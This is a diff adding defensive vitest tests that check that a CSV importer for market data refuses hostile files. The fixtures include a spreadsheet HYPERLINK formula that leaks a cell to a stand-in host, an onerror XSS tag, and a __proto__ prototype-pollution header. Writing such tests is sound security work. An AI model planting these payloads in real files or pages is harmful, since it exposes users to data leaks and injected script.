@@ -1,5 +1,6 @@
 import { describe, it, expect } from 'vitest';
 import { applyImport, importCsvFiles, parseCsvFile, planImport } from '../../../src/csv';
+import { OUR_HEADER } from '../../../src/csv/detect';
 import type { MarketStore } from '../../../src/storage/store';
 import { dataLines, freshStore, KLINES_BTC, readFixture, snapshot, uploadBars } from './helpers';
 
@@ -149,5 +150,29 @@ describe('broken files are refused whole and leave the database unchanged', () =
     const r = applyImport(store, plan, { validRowsOnly: true });
     expect(r.ok).toBe(true);
     expect(uploadBars(store, 'BTCUSDT', '1m')).toHaveLength(11);
+  });
+
+  describe('hostile files', () => {
+    it('refuses a formula in a number cell, naming the line and the field, and stores nothing', async () => {
+      const p = await expectRefused(
+        withField(2, 4, '"=HYPERLINK(""http://evil.invalid/?leak=""&A1;""click"")"'),
+        /line 4[\s\S]*close/,
+      );
+      expect(p.problemCount).toBeGreaterThan(0);
+    });
+
+    it('refuses a formula or markup in the symbol column of our own format', async () => {
+      const ours = (symbol: string) =>
+        `${OUR_HEADER.join(',')}\n${symbol},1m,upload,1721347020000,64000,64010,63990,64005,1.5,10,96000,0.7\n`;
+      await expectRefused(ours('"=HYPERLINK(""http://evil.invalid"",""x"")"'), /symbol/, 'pairs-lab.csv');
+      await expectRefused(ours('<img src=x onerror=alert(1)>'), /symbol/, 'pairs-lab.csv');
+    });
+
+    it('refuses a header of __proto__ and constructor keys without touching Object.prototype', async () => {
+      const text = `__proto__,constructor,prototype,polluted\n{"polluted":1},2,3,4\n1,2,3,4\n`;
+      await expectRefused(text, /No recognisable/);
+      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+      expect(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')).toBe(false);
+    });
   });
 });
